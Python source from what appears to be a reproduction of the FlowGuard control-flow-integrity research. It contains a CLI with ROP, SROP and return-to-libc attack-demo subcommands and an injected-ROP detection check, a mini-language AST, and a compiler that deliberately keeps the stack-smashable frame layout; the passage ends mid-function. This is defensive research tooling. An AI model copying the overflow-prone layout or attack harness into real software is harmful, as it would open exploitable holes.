    tel.reset()
    slo = SLOConfig.load(args.slo) if args.slo else None
    plane = ObservabilityPlane(interval=args.sample_interval, slo=slo)
    tel.attach_plane(plane)
    if args.serve_config:
        return _top_service(args, tel, plane)
    try:
        if args.scenario:
            from repro.loadgen import build_load_service, resolve_scenario

            scenario = resolve_scenario(args.scenario)
            # The tracker stays referenced by the kernel's syscall
            # wrappers; keep it alive for the run's duration.
            service, tracker, attacked_pids = build_load_service(
                scenario, scenario.connections_upper_bound,
            )
        else:
            service, config, attacked_pid = _build_fleet_service(args)
            attacked_pids = [attacked_pid] if attacked_pid is not None \
                else []
        live = not args.once
        if live:
            clear = "\x1b[2J\x1b[H" if sys.stdout.isatty() else ""

            def render(sample: dict, _every=max(1, args.refresh)) -> None:
                if sample["seq"] % _every == 0:
                    print(clear + _format_top_frame(service, plane, sample))
                    if not clear:
                        print()

            plane.sampler.on_sample.append(render)
        result = service.run()
        plane_audit = plane.reconcile(
            service.monitor.all_stats(), service.monitor.degradations
        )
        # The final frame renders after finalize (inside reconcile) so
        # it carries the closing sample — ``--once`` prints only this.
        print(_format_top_frame(service, plane, plane.sampler.samples[-1]))
        if args.plane_out:
            plane.export(args.plane_out)
            print(f"[plane dump -> {args.plane_out}]", file=sys.stderr)
    finally:
        tel.detach_plane()
        tel.disable()

    if not result.accounting["exact"]:
        print("fleet cycle ledger does NOT reconcile with MonitorStats",
              file=sys.stderr)
        return 1
    ledger = (result.resilience or {}).get("ledger_reconcile")
    if ledger is not None and not ledger["exact"]:
        print("degradation ledger does NOT reconcile with telemetry",
              file=sys.stderr)
        return 1
    if not plane_audit["exact"]:
        print("observability plane does NOT reconcile", file=sys.stderr)
        return 1
    missed = [pid for pid in attacked_pids
              if pid not in result.quarantined_pids]
    if missed:
        print(f"injected attack on pid(s) "
              f"{', '.join(map(str, missed))} was not quarantined",
              file=sys.stderr)
        return 1
    return 0


def _top_service(args: argparse.Namespace, tel, plane) -> int:
    """``repro top --serve-config``: the live multi-tenant view."""
    import asyncio

    from repro.service import TraceCheckService, resolve_serve_config

    config = resolve_serve_config(args.serve_config)
    try:
        service = TraceCheckService(config, plane=plane)
        if not args.once:
            clear = "\x1b[2J\x1b[H" if sys.stdout.isatty() else ""

            def render(sample: dict, _every=max(1, args.refresh)) -> None:
                if sample["seq"] % _every == 0:
                    print(clear
                          + _format_service_frame(service, plane, sample))
                    if not clear:
                        print()

            plane.sampler.on_sample.append(render)
        result = asyncio.run(service.serve())
        plane.finalize(service.now)
        plane_audit = plane.reconcile(
            [stats
             for rt in service.runtimes
             for stats in rt.fleet.monitor.all_stats()],
            [rt.fleet.monitor.degradations for rt in service.runtimes],
        )
        print(_format_service_frame(
            service, plane, plane.sampler.samples[-1]
        ))
        if args.plane_out:
            plane.export(args.plane_out)
            print(f"[plane dump -> {args.plane_out}]", file=sys.stderr)
    finally:
        tel.detach_plane()
        tel.disable()

    inexact = [
        name for name, report in result.tenants.items()
        if not (report["accounting_exact"] and report["ledger_exact"])
    ]
    if inexact:
        print(f"tenant ledger(s) do NOT reconcile: "
              f"{', '.join(inexact)}", file=sys.stderr)
        return 1
    if not plane_audit["exact"]:
        print("observability plane does NOT reconcile", file=sys.stderr)
        return 1
    return 0


def _cmd_service(args: argparse.Namespace) -> int:
    """Multi-tenant serving front-end: per-tenant fault domains,
    quotas, hot reload, and streamed verdicts."""
    from repro import telemetry
    from repro.experiments.common import format_rows
    from repro.service import resolve_serve_config

    config = resolve_serve_config(args.config)
    tel = telemetry.get_telemetry()
    plane = None
    wants_plane = args.plane or args.slo or args.plane_out
    tel.reset()
    if wants_plane:
        from repro.telemetry.plane import ObservabilityPlane, SLOConfig

        slo = SLOConfig.load(args.slo) if args.slo else None
        plane = ObservabilityPlane(
            interval=args.sample_interval, slo=slo
        )
        tel.attach_plane(plane)
    elif args.telemetry:
        tel.enable()

    on_event = None
    if args.stream:
        def on_event(event: dict) -> None:
            kind = event["type"]
            if kind == "verdict":
                print(f"event {event['tenant']}: task {event['task_id']} "
                      f"pid={event['pid']} {event['kind']} -> "
                      f"{event['verdict']} @ {event['at']:,.0f}")
            else:
                print(f"event {event['tenant']}: {kind} "
                      f"@ {event['at']:,.0f}")

    plane_audit = None
    try:
        import asyncio

        from repro.service import TraceCheckService

        service = TraceCheckService(config, plane=plane)
        result = asyncio.run(service.serve(on_event=on_event))
        if plane is not None:
            plane.finalize(service.now)
            plane_audit = plane.reconcile(
                [stats
                 for rt in service.runtimes
                 for stats in rt.fleet.monitor.all_stats()],
                [rt.fleet.monitor.degradations
                 for rt in service.runtimes],
            )
            if args.plane_out:
                plane.export(args.plane_out)
                print(f"[plane dump -> {args.plane_out}]",
                      file=sys.stderr)
    finally:
        if plane is not None:
            tel.detach_plane()
        tel.disable()

    if args.out:
        with open(args.out, "w", encoding="utf-8") as fh:
            json.dump(result.to_dict(), fh, indent=2, sort_keys=True)
            fh.write("\n")
        print(f"[service payload -> {args.out}]", file=sys.stderr)
    if args.json:
        json.dump(result.to_dict(), sys.stdout, indent=2, sort_keys=True)
        print()
    else:
        print(f"service {config.name}: {len(config.tenants)} tenant(s), "
              f"makespan {result.makespan:,.0f} cycles"
              f"{'  [drained]' if result.drained else ''}")
        print(format_rows(
            ["tenant", "scenario", "offered", "done", "shed", "quar",
             "p99", "throttles", "reloads", "burn", "exact"],
            [
                [name, t["scenario"], t["offered"], t["completed"],
                 t["shed"], t["quarantines"],
                 f"{t['latency'].get('p99', 0.0):.0f}",
                 t["quota"]["throttles"], t["reloads"]["count"],
                 f"{t['error_budget']['burn']:.2f}",
                 "yes" if t["accounting_exact"] and t["ledger_exact"]
                 else "NO"]
                for name, t in result.tenants.items()
            ],
        ))

    inexact = [
        name for name, t in result.tenants.items()
        if not (t["accounting_exact"] and t["ledger_exact"])
    ]
    if inexact:
        print(f"tenant ledger(s) do NOT reconcile: "
              f"{', '.join(inexact)}", file=sys.stderr)
        return 1
    if plane_audit is not None and not plane_audit["exact"]:
        print("observability plane does NOT reconcile", file=sys.stderr)
        return 1
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    """Render a self-contained markdown/HTML report from a run JSON."""
    from repro.telemetry.report import render_report

    with open(args.input, "r", encoding="utf-8") as fh:
        payload = json.load(fh)
    try:
        text = render_report(payload, fmt=args.format, title=args.title)
    except ValueError as exc:
        print(f"report: {exc}", file=sys.stderr)
        return 2
    if args.output:
        with open(args.output, "w", encoding="utf-8") as fh:
            fh.write(text)
        print(f"[report -> {args.output}]", file=sys.stderr)
    else:
        print(text, end="")
    return 0


def _cmd_fuzz(args: argparse.Namespace) -> int:
    from repro.experiments.common import (
        libraries, seed_server_fs, training_corpus,
    )
    from repro.fuzz import Fuzzer, TargetRunner
    from repro.workloads import SERVER_BUILDERS, build_vdso

    exe = SERVER_BUILDERS[args.server]()
    runner = TargetRunner(
        args.server, exe, libraries(), vdso=build_vdso(),
        mode="socket", max_steps=200_000,
        kernel_setup=lambda k: seed_server_fs(k),
    )
    seeds = [bytes(c) if isinstance(c, (bytes, bytearray)) else c[0]
             for c in training_corpus(args.server)[:2]]
    fuzzer = Fuzzer(runner, seeds)
    queue = fuzzer.run(max_executions=args.budget)
    print(f"{fuzzer.stats.executions} executions, "
          f"{len(queue)} path-finding inputs, "
          f"{fuzzer.stats.crashes} crashes, "
          f"{fuzzer.coverage.edge_count} coverage points")
    for index, entry in enumerate(queue.entries()):
        print(f"  [{index}] depth={entry.depth} "
              f"{entry.data[:40]!r}{'...' if len(entry.data) > 40 else ''}")
    return 0


def _cmd_disasm(args: argparse.Namespace) -> int:
    from repro.isa.disassembler import disassemble_range, format_insn
    from repro.workloads import SERVER_BUILDERS, UTILITY_BUILDERS
    from repro.workloads.spec import SPEC_NAMES, build_spec_program

    if args.name in SERVER_BUILDERS:
        module = SERVER_BUILDERS[args.name]()
    elif args.name in UTILITY_BUILDERS:
        module = UTILITY_BUILDERS[args.name]()
    elif args.name in SPEC_NAMES:
        module = build_spec_program(args.name, 1)
    else:
        print(f"unknown workload {args.name!r}", file=sys.stderr)
        return 2
    function = args.function or (
        "main" if "main" in module.function_ranges else module.entry
    )
    if function not in module.function_ranges:
        print(f"{args.name} has no function {function!r}; "
              f"available: {', '.join(sorted(module.function_ranges))}",
              file=sys.stderr)
        return 2
    start, end = module.function_ranges[function]
    print(f"{args.name}:{function} ({end - start} bytes)")
    for offset, insn, _ in disassemble_range(module.code, start, end):
        print(f"  {offset:6x}:  {format_insn(insn, ip=offset)}")
    return 0


def _trace_parent() -> argparse.ArgumentParser:
    """Shared ``--trace-out``/``--spans-out`` flags (parent parser)."""
    parent = argparse.ArgumentParser(add_help=False)
    parent.add_argument(
        "--trace-out", default=None, metavar="FILE",
        help="write a Chrome trace-event JSON of this run",
    )
    parent.add_argument(
        "--spans-out", default=None, metavar="FILE",
        help="write the raw spans as JSON-lines",
    )
    return parent


def _cache_parent() -> argparse.ArgumentParser:
    """Shared fast-path cache flags (parent parser)."""
    parent = argparse.ArgumentParser(add_help=False)
    parent.add_argument("--segment-cache", type=int, default=0,
                        metavar="N",
                        help="segment decode cache entries (0 = off)")
    parent.add_argument("--edge-cache", type=int, default=0, metavar="N",
                        help="edge-verdict memo entries (0 = off)")
    return parent


def _engine_parent() -> argparse.ArgumentParser:
    """Shared decode-engine flag (parent parser)."""
    parent = argparse.ArgumentParser(add_help=False)
    parent.add_argument(
        "--engine", choices=["columnar", "objects"], default="columnar",
        help="fast-path decode engine: the table-driven columnar scan "
             "(default; same verdicts and charged cycles, less "
             "wall-clock) or the original per-packet object scan",
    )
    return parent


def _plane_parent() -> argparse.ArgumentParser:
    """Shared observability-plane flags (parent parser)."""
    parent = argparse.ArgumentParser(add_help=False)
    parent.add_argument(
        "--slo", default=None, metavar="FILE",
        help="load a JSON SLOConfig (default: the stock objectives)",
    )
    parent.add_argument(
        "--plane-out", default=None, metavar="FILE",
        help="write the full plane dump (a `repro report` input)",
    )
    parent.add_argument(
        "--sample-interval", type=float, default=2000.0, metavar="N",
        help="sampler cadence in simulated cycles",
    )
    return parent


def _add_fleet_shape_args(parser: argparse.ArgumentParser) -> None:
    """The fleet-shape flags ``fleet`` and ``top`` share."""
    parser.add_argument("-p", "--processes", type=int, default=8)
    parser.add_argument("-w", "--workers", type=int, default=4)
    parser.add_argument("--policy", choices=["stall", "lossy"],
                        default="stall",
                        help="ToPA buffer-full degradation policy")
    parser.add_argument("--quantum", type=float, default=2000.0,
                        help="round-robin slice in simulated cycles")
    parser.add_argument("--ring-bytes", type=int, default=8192,
                        help="per-process trace ring capacity")
    parser.add_argument("--queue-depth", type=int, default=64,
                        help="in-flight checks before backpressure")
    parser.add_argument("--decode-mode",
                        choices=["simulated", "threads"],
                        default="simulated")
    parser.add_argument("--decode-pool", choices=["thread", "process"],
                        default="thread",
                        help="real decode backend for --decode-mode "
                             "threads: in-process thread pool or a "
                             "process pool over shared-memory columns")
    parser.add_argument("--pool", choices=["spread", "steal"],
                        default="spread",
                        help="simulated scheduling discipline: "
                             "slice-level spread or per-process "
                             "affinity with work stealing")
    parser.add_argument("--index-shards", type=int, default=0,
                        help="flow-index shards (0 = flat index)")
    parser.add_argument("-n", "--sessions", type=int, default=2,
                        help="client sessions per process")
    parser.add_argument("--servers", nargs="*", default=None,
                        choices=["nginx", "vsftpd", "openssh", "exim"],
                        help="server mix (default: nginx exim)")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--inject-rop", action="store_true",
                        help="inject a ROP exploit into one nginx process")


def _fault_parent() -> argparse.ArgumentParser:
    """Shared fault-injection flags (parent parser)."""
    parent = argparse.ArgumentParser(add_help=False)
    parent.add_argument(
        "--faults", default=None, metavar="PLAN.json",
        help="arm a deterministic FaultPlan loaded from a JSON file",
    )
    parent.add_argument(
        "--fault-seed", type=int, default=None, metavar="N",
        help="reseed the fault plan (alone: arm the standard mix)",
    )
    return parent


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="FlowGuard reproduction (HPCA 2017) command line",
    )
    parser.add_argument(
        "--version", action="version", version=f"repro {__version__}",
    )
    sub = parser.add_subparsers(dest="command", required=True)
    trace = _trace_parent()
    caches = _cache_parent()
    faults = _fault_parent()
    engine = _engine_parent()
    plane = _plane_parent()

    experiments = sub.add_parser(
        "experiments", help="regenerate paper tables/figures",
        parents=[trace],
    )
    experiments.add_argument("names", nargs="*",
                             help="subset of experiments (default all)")
    experiments.set_defaults(func=_cmd_experiments)

    attack = sub.add_parser("attack", help="run one attack demo",
                            parents=[engine])
    attack.add_argument("kind",
                        choices=["rop", "srop", "retlib", "flushing"])
    attack.set_defaults(func=_cmd_attack)

    serve = sub.add_parser("serve", help="drive a protected server",
                           parents=[trace, engine])
    serve.add_argument("server",
                       choices=["nginx", "vsftpd", "openssh", "exim"])
    serve.add_argument("-n", "--sessions", type=int, default=8)
    serve.add_argument("--seed", type=int, default=None,
                       help="deterministic varied request mix "
                            "(default: the legacy constant workload)")
    serve.add_argument("--unprotected", action="store_true")
    serve.set_defaults(func=_cmd_serve)

    bench = sub.add_parser(
        "bench",
        help="closed-loop load bench: sweep + max throughput under SLO",
    )
    bench.add_argument("--scenario", default="nginx-closed",
                       metavar="REF",
                       help="builtin scenario name or JSON file "
                            "(default: nginx-closed)")
    bench.add_argument("--seed", type=int, default=None,
                       help="reseed the scenario end to end")
    bench.add_argument("--engine", choices=["columnar", "objects"],
                       default=None,
                       help="override the scenario's fast-path decode "
                            "engine (default: whatever the scenario "
                            "specifies)")
    bench.add_argument("--json", action="store_true",
                       help="dump the full payload as JSON to stdout")
    bench.add_argument("--out", default=None, metavar="FILE",
                       help="also write the payload JSON here "
                            "(a `repro report` input)")
    bench.set_defaults(func=_cmd_bench)

    stats = sub.add_parser(
        "stats",
        help="run a protected server under telemetry, dump the report",
        parents=[caches, engine, faults, plane, trace],
    )
    stats.add_argument("server",
                       choices=["nginx", "vsftpd", "openssh", "exim"])
    stats.add_argument("-n", "--sessions", type=int, default=4)
    stats.add_argument("--plane", action="store_true",
                       help="attach the observability plane (implied by "
                            "--slo / --plane-out)")
    stats.set_defaults(func=_cmd_stats)

    fleet = sub.add_parser(
        "fleet",
        help="time-slice N protected processes over M checker workers",
        parents=[caches, engine, faults],
    )
    _add_fleet_shape_args(fleet)
    fleet.add_argument("--json", action="store_true",
                       help="also dump the full result as JSON")
    fleet.set_defaults(func=_cmd_fleet)

    top = sub.add_parser(
        "top",
        help="live fleet view via the observability plane",
        parents=[caches, engine, faults, plane],
    )
    _add_fleet_shape_args(top)
    top.add_argument("--scenario", default=None, metavar="REF",
                     help="run a loadgen scenario (builtin name or "
                          "JSON file) at its upper connection bound "
                          "instead of the fleet-shape flags")
    top.add_argument("--once", action="store_true",
                     help="print only the final frame (CI-friendly)")
    top.add_argument("--refresh", type=int, default=5, metavar="K",
                     help="render a frame every K samples (live mode)")
    top.add_argument("--serve-config", default=None, metavar="REF",
                     help="drive a multi-tenant serve config (builtin "
                          "name or JSON file) and render per-tenant "
                          "rows instead of the fleet-shape flags")
    top.set_defaults(func=_cmd_top)

    service = sub.add_parser(
        "service",
        help="multi-tenant serving front-end with per-tenant fault "
             "domains, quotas, and hot reload",
        parents=[plane],
    )
    service.add_argument("--config", default="duo-isolation",
                         metavar="REF",
                         help="builtin serve config name or JSON file "
                              "(default: duo-isolation)")
    service.add_argument("--plane", action="store_true",
                         help="attach the observability plane (implied "
                              "by --slo / --plane-out)")
    service.add_argument("--telemetry", action="store_true",
                         help="enable the metrics registry without "
                              "the full plane")
    service.add_argument("--stream", action="store_true",
                         help="print every tenant's verdict stream")
    service.add_argument("--json", action="store_true",
                         help="dump the full result as JSON to stdout")
    service.add_argument("--out", default=None, metavar="FILE",
                         help="also write the result JSON here")
    service.set_defaults(func=_cmd_service)

    report = sub.add_parser(
        "report",
        help="render a markdown/HTML report from a run JSON",
    )
    report.add_argument("input",
                        help="plane dump, BENCH_observability.json, or "
                             "StatsReport JSON")
    report.add_argument("-o", "--output", default=None,
                        help="write here instead of stdout")
    report.add_argument("--format", choices=["markdown", "html"],
                        default="markdown")
    report.add_argument("--title", default=None)
    report.set_defaults(func=_cmd_report)

    fuzz = sub.add_parser("fuzz", help="run the miniature AFL campaign")
    fuzz.add_argument("server",
                      choices=["nginx", "vsftpd", "openssh", "exim"])
    fuzz.add_argument("--budget", type=int, default=200)
    fuzz.set_defaults(func=_cmd_fuzz)

    disasm = sub.add_parser("disasm", help="disassemble a workload")
    disasm.add_argument("name")
    disasm.add_argument("-f", "--function", default=None)
    disasm.set_defaults(func=_cmd_disasm)

    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
