"""AST node definitions for the mini language."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Union


class Expr:
    """Base class for expressions (evaluate to a 64-bit value)."""


class Stmt:
    """Base class for statements."""


# -- expressions -----------------------------------------------------------


@dataclass
class Const(Expr):
    """Integer literal."""

    value: int


@dataclass
class Var(Expr):
    """Read a scalar local variable or parameter."""

    name: str


@dataclass
class AddrOf(Expr):
    """Address of a local variable or array (``&buf``)."""

    name: str


@dataclass
class Global(Expr):
    """Address of a module data object (``&global``)."""

    name: str


@dataclass
class FuncRef(Expr):
    """Address of a function (address-taken function pointer)."""

    name: str


@dataclass
class BinOp(Expr):
    """Arithmetic/logical binary operation.

    ``op`` is one of ``+ - * / % & | ^ << >>``.
    """

    op: str
    left: Expr
    right: Expr


@dataclass
class Load(Expr):
    """Memory read: ``*(addr + offset)`` (64-bit, or byte if ``byte``)."""

    addr: Expr
    offset: int = 0
    byte: bool = False


@dataclass
class Call(Expr):
    """Direct call by function name (local or imported)."""

    name: str
    args: Sequence[Expr] = ()


@dataclass
class CallPtr(Expr):
    """Indirect call through a function-pointer expression."""

    target: Expr
    args: Sequence[Expr] = ()


@dataclass
class SyscallExpr(Expr):
    """Invoke a syscall; evaluates to its return value."""

    number: int
    args: Sequence[Expr] = ()


# -- conditions --------------------------------------------------------------


@dataclass
class Rel(Expr):
    """Relational comparison used by If/While.

    ``op`` is one of ``== != < <= > >=``.  As an expression it evaluates
    to 0/1; in condition position it compiles to a bare compare+branch.
    """

    op: str
    left: Expr
    right: Expr


# -- statements ----------------------------------------------------------------


@dataclass
class Let(Stmt):
    """Declare (and initialise) a scalar local."""

    name: str
    value: Expr


@dataclass
class LocalArray(Stmt):
    """Declare a fixed-size byte array in the stack frame.

    Arrays are placed *below* the saved FP/return address, growing
    toward them — the classic stack-smashing layout.
    """

    name: str
    size: int


@dataclass
class Assign(Stmt):
    """Assign to an existing scalar local."""

    name: str
    value: Expr


@dataclass
class Store(Stmt):
    """Memory write: ``*(addr + offset) = value``."""

    addr: Expr
    value: Expr
    offset: int = 0
    byte: bool = False


@dataclass
class If(Stmt):
    cond: Expr
    then: Sequence[Stmt]
    orelse: Sequence[Stmt] = ()


@dataclass
class While(Stmt):
    cond: Expr
    body: Sequence[Stmt]


@dataclass
class Break(Stmt):
    pass


@dataclass
class Continue(Stmt):
    pass


@dataclass
class Return(Stmt):
    value: Optional[Expr] = None


@dataclass
class Switch(Stmt):
    """Dense switch: compiles to an indirect jump through a jump table."""

    selector: Expr
    cases: Dict[int, Sequence[Stmt]]
    default: Sequence[Stmt] = ()


@dataclass
class ExprStmt(Stmt):
    """Evaluate an expression for its side effects."""

    expr: Expr


@dataclass
class Asm(Stmt):
    """Escape hatch: raw assembler items spliced into the body."""

    items: Sequence[object]


# Statements accept bare expressions for convenience.
StmtLike = Union[Stmt, Expr]


def as_stmt(node: StmtLike) -> Stmt:
    return ExprStmt(node) if isinstance(node, Expr) else node


@dataclass
class Func:
    """A function definition."""

    name: str
    params: Sequence[str]
    body: Sequence[StmtLike]
    export: bool = True

    def statements(self) -> List[Stmt]:
        return [as_stmt(node) for node in self.body]
