"""Compiler from the mini-language AST to ISA instruction streams.

Code generation model:

- conventional frames: ``push fp; mov fp, sp; sub sp, frame``; the return
  address sits at ``[fp+8]`` and the saved FP at ``[fp]``,
- locals are laid out downward from FP in declaration order, so a write
  past the end of a local array climbs over later-declared state, the
  saved FP and finally the return address — the C stack-smash layout,
- expressions evaluate into ``r6`` with partial results spilled to the
  stack (``r7`` is the secondary operand, ``r8`` the indirect-call
  scratch); ``r1``–``r5`` carry arguments,
- ``switch`` emits a bounds-checked indirect jump through a relocated
  in-data jump table, exactly like a C compiler.
"""

from __future__ import annotations

import itertools
from typing import Dict, List, Optional, Sequence, Tuple

from repro.binary.builder import ModuleBuilder
from repro.binary.module import Module
from repro.isa.assembler import A, Item
from repro.isa.instructions import Insn, Label, Op
from repro.isa.registers import FP, R0, SP, Cond
from repro.lang import ast

_RESULT = 6  # r6
_SECOND = 7  # r7
_TARGET = 8  # r8
_MAX_ARGS = 5

_BINOPS = {
    "+": Op.ADD,
    "-": Op.SUB,
    "*": Op.MUL,
    "/": Op.DIV,
    "%": Op.MOD,
    "&": Op.AND,
    "|": Op.OR,
    "^": Op.XOR,
    "<<": Op.SHL,
    ">>": Op.SHR,
}

_RELOPS = {
    "==": Cond.EQ,
    "!=": Cond.NE,
    "<": Cond.LT,
    "<=": Cond.LE,
    ">": Cond.GT,
    ">=": Cond.GE,
}


class CompileError(Exception):
    """Semantic error in the mini-language source."""


class Program:
    """A compilation unit: functions + data, linked into a Module."""

    def __init__(self, name: str) -> None:
        self.builder = ModuleBuilder(name)
        self._labels = itertools.count()
        self._entry_func: Optional[str] = None

    # -- data / linkage passthrough ---------------------------------------

    def import_symbol(self, name: str) -> "Program":
        self.builder.import_symbol(name)
        return self

    def add_needed(self, soname: str) -> "Program":
        self.builder.add_needed(soname)
        return self

    def add_string(self, name: str, text: str, export: bool = False
                   ) -> "Program":
        """Add a NUL-terminated string object."""
        self.builder.add_data(name, text.encode() + b"\x00", export)
        return self

    def add_data(self, name: str, payload: bytes, export: bool = False
                 ) -> "Program":
        self.builder.add_data(name, payload, export)
        return self

    def add_zeros(self, name: str, size: int, export: bool = False
                  ) -> "Program":
        self.builder.add_zeros(name, size, export)
        return self

    def add_pointer_table(
        self, name: str, functions: Sequence[str], export: bool = False
    ) -> "Program":
        self.builder.add_pointer_table(name, functions, export)
        return self

    def set_entry(self, name: str) -> "Program":
        """Mark the C-level entry function.

        ``build()`` synthesises a ``_start`` shim that calls it and
        issues ``exit(main())`` — the crt0 of this toolchain.
        """
        self._entry_func = name
        return self

    # -- compilation ---------------------------------------------------------

    def fresh_label(self, hint: str) -> str:
        return f"__L{next(self._labels)}.{hint}"

    def add_func(self, func: ast.Func) -> "Program":
        items = Compiler(self, func).compile()
        self.builder.add_function(func.name, items, export=func.export)
        return self

    def add_asm_function(
        self, name: str, items: Sequence[Item], export: bool = True
    ) -> "Program":
        """Add a hand-written assembly function."""
        self.builder.add_function(name, items, export=export)
        return self

    def build(self) -> Module:
        if self._entry_func is not None:
            from repro.isa.registers import R1
            from repro.osmodel.syscalls import Sys

            self.builder.add_function(
                "_start",
                [
                    A.call(self._entry_func),
                    A.movr(R1, R0),
                    A.mov(R0, int(Sys.EXIT)),
                    A.syscall(),
                    # Bare-metal fallback (no kernel attached): restore the
                    # return value and stop.  Under a kernel the exit
                    # handler halts before these retire.
                    A.movr(R0, R1),
                    A.halt(),
                ],
            )
            self.builder.set_entry("_start")
        return self.builder.build()


class Compiler:
    """Compiles one function."""

    def __init__(self, program: Program, func: ast.Func) -> None:
        self.program = program
        self.func = func
        self.items: List[Item] = []
        self._locals: Dict[str, int] = {}
        self._arrays: Dict[str, Tuple[int, int]] = {}  # name -> (off, size)
        self._frame_size = 0
        self._loop_stack: List[Tuple[str, str]] = []  # (continue, break)
        self._epilogue = program.fresh_label(f"{func.name}.epi")

    # -- frame layout -----------------------------------------------------

    def _collect_locals(self, stmts: Sequence[ast.Stmt]) -> None:
        for stmt in stmts:
            if isinstance(stmt, ast.Let):
                if stmt.name not in self._locals:
                    self._declare_scalar(stmt.name)
            elif isinstance(stmt, ast.LocalArray):
                self._declare_array(stmt.name, stmt.size)
            elif isinstance(stmt, ast.If):
                self._collect_locals([ast.as_stmt(s) for s in stmt.then])
                self._collect_locals([ast.as_stmt(s) for s in stmt.orelse])
            elif isinstance(stmt, ast.While):
                self._collect_locals([ast.as_stmt(s) for s in stmt.body])
            elif isinstance(stmt, ast.Switch):
                for body in stmt.cases.values():
                    self._collect_locals([ast.as_stmt(s) for s in body])
                self._collect_locals([ast.as_stmt(s) for s in stmt.default])

    def _declare_scalar(self, name: str) -> None:
        if name in self._locals or name in self._arrays:
            raise CompileError(
                f"{self.func.name}: duplicate local {name!r}"
            )
        self._frame_size += 8
        self._locals[name] = -self._frame_size

    def _declare_array(self, name: str, size: int) -> None:
        if name in self._locals or name in self._arrays:
            raise CompileError(
                f"{self.func.name}: duplicate local {name!r}"
            )
        aligned = (size + 7) // 8 * 8
        self._frame_size += aligned
        self._arrays[name] = (-self._frame_size, size)

    def _local_offset(self, name: str) -> int:
        off = self._locals.get(name)
        if off is None:
            if name in self._arrays:
                raise CompileError(
                    f"{self.func.name}: array {name!r} used as scalar"
                )
            raise CompileError(
                f"{self.func.name}: undeclared local {name!r}"
            )
        return off

    def _addr_offset(self, name: str) -> int:
        if name in self._arrays:
            return self._arrays[name][0]
        if name in self._locals:
            return self._locals[name]
        raise CompileError(f"{self.func.name}: undeclared local {name!r}")

    # -- top level -----------------------------------------------------------

    def compile(self) -> List[Item]:
        params = list(self.func.params)
        if len(params) > _MAX_ARGS:
            raise CompileError(
                f"{self.func.name}: more than {_MAX_ARGS} parameters"
            )
        for param in params:
            self._declare_scalar(param)
        body = self.func.statements()
        self._collect_locals(body)
        frame = (self._frame_size + 15) // 16 * 16

        emit = self.items.append
        emit(A.push(FP))
        emit(A.movr(FP, SP))
        if frame:
            emit(A.subi(SP, frame))
        for index, param in enumerate(params):
            emit(A.store(FP, self._locals[param], 1 + index))

        for stmt in body:
            self._stmt(stmt)

        # Implicit `return 0` for fall-off-the-end.
        emit(A.mov(R0, 0))
        emit(Label(self._epilogue))
        emit(A.movr(SP, FP))
        emit(A.pop(FP))
        emit(A.ret())
        return self.items

    # -- statements -------------------------------------------------------------

    def _stmt(self, stmt: ast.Stmt) -> None:
        emit = self.items.append
        if isinstance(stmt, ast.Let) or isinstance(stmt, ast.Assign):
            self._expr(stmt.value)
            emit(A.store(FP, self._local_offset(stmt.name), _RESULT))
        elif isinstance(stmt, ast.LocalArray):
            pass  # space reserved in the prologue
        elif isinstance(stmt, ast.Store):
            self._expr(stmt.addr)
            emit(A.push(_RESULT))
            self._expr(stmt.value)
            emit(A.movr(_SECOND, _RESULT))
            emit(A.pop(_RESULT))
            if stmt.byte:
                emit(A.storeb(_RESULT, stmt.offset, _SECOND))
            else:
                emit(A.store(_RESULT, stmt.offset, _SECOND))
        elif isinstance(stmt, ast.ExprStmt):
            self._expr(stmt.expr)
        elif isinstance(stmt, ast.Return):
            if stmt.value is not None:
                self._expr(stmt.value)
                emit(A.movr(R0, _RESULT))
            else:
                emit(A.mov(R0, 0))
            emit(A.jmp(self._epilogue))
        elif isinstance(stmt, ast.If):
            self._if(stmt)
        elif isinstance(stmt, ast.While):
            self._while(stmt)
        elif isinstance(stmt, ast.Break):
            if not self._loop_stack:
                raise CompileError(f"{self.func.name}: break outside loop")
            emit(A.jmp(self._loop_stack[-1][1]))
        elif isinstance(stmt, ast.Continue):
            if not self._loop_stack:
                raise CompileError(
                    f"{self.func.name}: continue outside loop"
                )
            emit(A.jmp(self._loop_stack[-1][0]))
        elif isinstance(stmt, ast.Switch):
            self._switch(stmt)
        elif isinstance(stmt, ast.Asm):
            self.items.extend(stmt.items)  # type: ignore[arg-type]
        else:
            raise CompileError(f"unknown statement: {stmt!r}")

    def _if(self, stmt: ast.If) -> None:
        emit = self.items.append
        then_label = self.program.fresh_label("then")
        else_label = self.program.fresh_label("else")
        end_label = self.program.fresh_label("endif")
        self._branch_if_true(stmt.cond, then_label)
        emit(A.jmp(else_label))
        emit(Label(then_label))
        for s in stmt.then:
            self._stmt(ast.as_stmt(s))
        emit(A.jmp(end_label))
        emit(Label(else_label))
        for s in stmt.orelse:
            self._stmt(ast.as_stmt(s))
        emit(Label(end_label))

    def _while(self, stmt: ast.While) -> None:
        emit = self.items.append
        cond_label = self.program.fresh_label("while")
        body_label = self.program.fresh_label("body")
        end_label = self.program.fresh_label("endwhile")
        emit(Label(cond_label))
        self._branch_if_true(stmt.cond, body_label)
        emit(A.jmp(end_label))
        emit(Label(body_label))
        self._loop_stack.append((cond_label, end_label))
        for s in stmt.body:
            self._stmt(ast.as_stmt(s))
        self._loop_stack.pop()
        emit(A.jmp(cond_label))
        emit(Label(end_label))

    def _switch(self, stmt: ast.Switch) -> None:
        emit = self.items.append
        keys = sorted(stmt.cases)
        if not keys:
            raise CompileError(f"{self.func.name}: empty switch")
        low, high = keys[0], keys[-1]
        span = high - low + 1
        if span > 4 * len(keys) + 8:
            raise CompileError(
                f"{self.func.name}: switch too sparse for a jump table"
            )
        default_label = self.program.fresh_label("swdefault")
        end_label = self.program.fresh_label("swend")
        case_labels = {
            key: self.program.fresh_label(f"case{key}") for key in keys
        }
        table_name = self.program.fresh_label("jumptable")
        entries = [
            case_labels.get(low + i, default_label) for i in range(span)
        ]
        self.program.add_pointer_table(table_name, entries)

        self._expr(stmt.selector)
        if low:
            emit(A.subi(_RESULT, low))
        emit(A.cmpi(_RESULT, 0))
        emit(A.jcc(Cond.LT, default_label))
        emit(A.cmpi(_RESULT, span))
        emit(A.jcc(Cond.GE, default_label))
        emit(A.muli(_RESULT, 8))
